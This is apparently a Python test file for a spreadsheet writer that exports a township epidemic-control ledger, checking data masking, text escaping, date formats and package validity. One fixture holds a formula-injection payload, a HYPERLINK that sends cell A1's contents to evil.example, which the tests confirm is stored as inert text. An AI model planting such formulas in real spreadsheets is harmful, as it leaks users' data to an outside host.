"""The 台账 as the streamed writer produces it, read back with openpyxl: a valid package, cells as written."""

from __future__ import annotations

import datetime as dt
import io
import warnings
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl

from admin.ledger import open_ledger
from admin.ledger.texts import CHECKPOINT_COLUMNS, FEVER_COLUMNS, QUARANTINE_COLUMNS, RETURNEE_COLUMNS
from admin.ledger_xlsx import write_ledger
from admin.xlsx_stream import Column, Properties, XlsxWriter, column_letter, excel_serial
from models.db import transaction
from tests.support.ledgers import NOW, Seed
from tests.support.live import SHANGHAI

D = dt.date
SHEETS = ["返乡人员", "隔离管控", "卡点异常", "发热", "物资", "红白事", "疫苗"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _workbook(seed: Seed, **options) -> bytes:
    buffer = io.BytesIO()
    with transaction(seed.db) as session:
        write_ledger(open_ledger(session, town="鸣皋镇", now=NOW, tz=SHANGHAI, **options), buffer)
    return buffer.getvalue()


def _town(server) -> Seed:
    """A returnee whose name carries control characters and whose origin looks like a formula, under a measure, with
    one report of each kind."""
    seed = Seed(server)
    person, declaration = seed.returnee(
        "鸣皋村", "张\x07三\x1b", "13712345678", D(2021, 8, 5), origin_province=HOSTILE, id_number="410329199001011234"
    )
    seed.quarantine(declaration, "居家隔离", rounds=[(D(2021, 8, 5), "done"), (D(2021, 8, 8), "due")])
    seed.reports(person, "鸣皋村")
    return seed


def _row(sheet) -> dict:
    """The first data row by header: the cells themselves."""
    headers = [cell.value for cell in sheet[1]]
    return dict(zip(headers, sheet[2], strict=True))


def test_cells_read_back_masked_stripped_as_text_and_as_dates(server):
    book = openpyxl.load_workbook(io.BytesIO(_workbook(_town(server), masked=True)))
    assert book.sheetnames == SHEETS
    columns_of = (RETURNEE_COLUMNS, QUARANTINE_COLUMNS, CHECKPOINT_COLUMNS, FEVER_COLUMNS)
    for title, columns in zip(SHEETS[:4], columns_of, strict=True):
        assert [cell.value for cell in book[title][1]] == list(columns)
    returnee = _row(book["返乡人员"])
    assert returnee["姓名"].value == "张三"  # the bell and the escape dropped, not the name
    assert returnee["联系电话"].value == "137****5678" and returnee["联系电话"].number_format == "@"
    assert returnee["身份证号"].value == "410***********1234"
    origin = returnee["从何地返回"]
    assert (origin.value, origin.data_type, origin.quotePrefix) == (HOSTILE, "s", True)
    arrived = returnee["返回日期"]
    assert (arrived.value, arrived.number_format) == (dt.datetime(2021, 8, 5), "yyyy-mm-dd")
    assert (returnee["序号"].value, returnee["已采样"].value) == (1, "1/2")
    fever = _row(book["发热"])
    reported = fever["报告时间"]
    assert (reported.value, reported.number_format) == (dt.datetime(2021, 8, 6, 10, 0), "yyyy-mm-dd hh:mm")
    assert fever["体温"].value == 38.6 and fever["体温"].data_type == "n"
    assert book["隔离管控"].freeze_panes == "A2" and book["隔离管控"].auto_filter.ref == "A1:J2"


def test_the_package_is_valid_and_opens_without_warnings(server):
    data = _workbook(_town(server))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None
        names = package.namelist()
        for name in names:
            ElementTree.fromstring(package.read(name))  # every part well-formed
        types = package.read("[Content_Types].xml").decode()
    assert all(f'PartName="/{name}"' in types for name in names if not name.endswith((".rels", "Types].xml")))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        book = openpyxl.load_workbook(io.BytesIO(data))
    assert [book[title].max_row for title in SHEETS] == [2, 2, 2, 2, 2, 2, 2]


def test_the_writer_keeps_values_as_their_kind(tmp_path):
    """The generic writer, without a database: every kind of value, XML specials, a second sheet beyond column Z."""
    out = tmp_path / "t.xlsx"
    properties = Properties(title="A & B", subject="<s>", creator="乡安", created=dt.datetime(2021, 8, 6, 2, 0))
    rows = [
        ("a<b>&c", 1, 2.5, Decimal("3.25"), True, D(2021, 8, 4), dt.datetime(2021, 8, 6, 10, 30), None, ""),
        ("-1", -7, float("inf"), "\x00", " 两边 ", "行一\n行二", "@x", "+1", 10**15),
    ]
    with XlsxWriter(out, properties) as book:
        assert book.sheet("第一", [Column(f"c{n}", 10, text=n == 0, wrap=n == 5) for n in range(9)], iter(rows)) == 2
        assert book.sheet("宽", [Column(str(n), 8) for n in range(30)], [tuple(range(30))]) == 1
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        loaded = openpyxl.load_workbook(out)
    first = [[cell.value for cell in row] for row in loaded["第一"].iter_rows(min_row=2)]
    assert first[0] == ["a<b>&c", 1, 2.5, 3.25, True, dt.datetime(2021, 8, 4), dt.datetime(2021, 8, 6, 10, 30), None,
                        None]  # fmt: skip
    assert first[1] == ["-1", -7, "inf", None, " 两边 ", "行一\n行二", "@x", "+1", 10**15]
    assert loaded["第一"]["A3"].quotePrefix and loaded["第一"]["A2"].number_format == "@"
    assert loaded["第一"]["F3"].alignment.wrap_text
    assert loaded["宽"]["AD2"].value == 29 and loaded["宽"].auto_filter.ref == "A1:AD2"
    assert (loaded.properties.title, loaded.properties.subject) == ("A & B", "<s>")
    assert column_letter(1) == "A" and column_letter(26) == "Z" and column_letter(27) == "AA"
    assert column_letter(16384) == "XFD"
    assert excel_serial(D(1900, 3, 1)) == 61 and excel_serial(D(2021, 8, 5)) == 44413
